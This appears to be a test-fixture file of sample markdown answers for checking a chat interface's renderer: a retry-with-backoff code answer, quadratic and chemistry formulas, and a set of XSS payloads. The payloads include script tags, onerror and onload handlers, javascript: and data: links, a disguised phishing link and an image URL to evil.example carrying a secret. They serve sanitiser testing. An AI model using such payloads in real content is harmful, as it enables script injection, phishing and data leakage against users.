/** Answers in markdown for the browser tests: what a model writes, and what an attacker would try to make it write. */

const fence = "```";

/** The exact code of the answer's `ts` block (what "Copy code" must copy). */
export const markdownCode = [
  "export async function retry<T>(run: () => Promise<T>, attempts = 3): Promise<T> {",
  "  for (let attempt = 0; ; attempt++) {",
  "    try {",
  "      return await run();",
  "    } catch (error) {",
  "      if (attempt + 1 >= attempts) throw error; // give up",
  '      await new Promise((resolve) => setTimeout(resolve, 2 ** attempt * 100)); // "backoff"',
  "    }",
  "  }",
  "}",
].join("\n");

export const markdownAnswer = [
  "## Retry with backoff",
  "",
  "Use **exponential backoff** so a struggling server can recover:",
  "",
  "1. Try the request.",
  "2. On a `429`, wait and try again.",
  "   - double the wait each time",
  "   - stop after a few attempts",
  "",
  "| Attempt | Wait (ms) |",
  "| --- | ---: |",
  "| 1 | 100 |",
  "| 2 | 200 |",
  "",
  `${fence}ts`,
  markdownCode,
  fence,
  "",
  "> Retries multiply the load on a server that is already struggling.",
  "",
  "That's all: 日本語 and emoji 🎉 too.",
].join("\n");

/**
 * Injection attempts. Each payload would set `window.__xss` (or open a
 * dialog, or load a URL on evil.example) if it ever ran.
 */
export const xssAnswer = [
  "Here are a few tricks:",
  "",
  '<script>window.__xss = "script"; alert("script")</script>',
  "",
  "<img src=x onerror=\"window.__xss = 'img'; alert('img')\">",
  "",
  "<svg onload=\"window.__xss = 'svg'\"><circle r=\"1\"/></svg>",
  "",
  "<iframe src=\"javascript:parent.__xss = 'iframe'\"></iframe>",
  "",
  "[win a prize](javascript:window.__xss='link';alert('link'))",
  "[or this](JaVaScRiPt:window.__xss='mixed')",
  "[or this one](java&#x09;script:window.__xss='tab')",
  "[or data](data:text/html,<script>alert('data')</script>)",
  "",
  "[https://bank.example/login](https://evil.example/phish)",
  "",
  "![a chart](https://evil.example/pixel.png?q=secret)",
  "",
  "| cell |",
  "| --- |",
  "| <img src=y onerror=\"window.__xss = 'table'\"> |",
  "",
  "- <details open ontoggle=\"window.__xss = 'list'\">x</details>",
  "",
  '<a href="javascript:window.__xss=\'raw link\'">raw link</a>',
  "",
  "\\(\\href{javascript:window.__xss='tex'}{tex link} \\url{javascript:alert(1)} \\htmlClass{evil}{x} \\htmlStyle{position:fixed}{y}\\)",
  "",
  "The end.",
].join("\n");

/** The formulas of `mathAnswer`, in order, as KaTeX must receive them. */
export const mathFormulas = [
  "ax^2 + bx + c = 0",
  "a \\ne 0",
  "x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}",
  "\\Delta = b^2 - 4ac",
  "\\Delta > 0",
  "\\Delta < 0",
  // A blank line within a formula: a paragraph break to markdown, not to the formula.
  "\\begin{aligned}\n  x_1 + x_2 &= -\\tfrac{b}{a} \\\\\n  x_1 x_2 &= \\tfrac{c}{a}\n\n\\end{aligned}",
  "\\pi r^2",
  "\\ce{2H2 + O2 -> 2H2O}",
  "E = mc^2",
];

/** An answer with formulas as models write them: \( \), \[ \], $$ (over lines, with a blank line), in a list, beside prices, chemistry, and $…$. */
export const mathAnswer = [
  "## The quadratic formula",
  "",
  `For \\(${mathFormulas[0]}\\) with \\(${mathFormulas[1]}\\):`,
  "\\[",
  mathFormulas[2],
  "\\]",
  "The discriminant decides the roots:",
  "",
  `$$${mathFormulas[3]}$$`,
  "",
  `- \\(${mathFormulas[4]}\\): two real roots`,
  `- \\(${mathFormulas[5]}\\): none, but two complex ones`,
  "",
  "$$",
  mathFormulas[6],
  "$$",
  "",
  `A price is not a formula: $5 or $10, and \`\\(code\\)\` stays code. 円の面積は \\(${mathFormulas[7]}\\) です 🎉`,
  `Chemistry too: \\(${mathFormulas[8]}\\), and single dollars as open models write them: $${mathFormulas[9]}$.`,
].join("\n");
